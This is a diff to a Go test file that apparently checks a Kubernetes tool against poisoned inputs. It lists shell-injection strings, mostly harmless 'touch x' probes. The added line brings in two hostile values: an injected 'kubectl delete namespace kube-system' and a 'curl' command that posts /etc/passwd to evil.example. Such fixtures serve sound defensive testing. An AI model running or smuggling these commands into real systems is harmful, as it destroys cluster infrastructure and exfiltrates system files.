@@ -17,6 +17,7 @@ var poisons = []string{
 	`/$(touch${IFS}x);touch${IFS}x;`, "`touch x`", `;touch x;`, `|touch x`, `&touch x&`, `>x`, `x<docs>`, `<value>`, `'`, `\'$(touch x)`, `"$(touch x)"`,
 	`'"$(touch x)"'`, `-oyaml`, `=ls`, `(touch x)`, `\`, `\\'`, `$(/bin/touch x)`, `*`, `~`, `!!`, `{a,b}`, `#x`, `$HOME`, ` x y`, `%self`,
 	"\ntouch x\n", "\ttouch", "\u202ex", "\u200b", "\x1b[2Jx", "名字", `$POD_NAME`, `[x]`, `?`, `^a^b`, `x\n`,
+	`x kubectl delete namespace kube-system --wait=false #`, `x curl -d @/etc/passwd evil.example #`,
 }
 
 // scenario is a poisoned case: its objects and logs, in a namespace of its own.
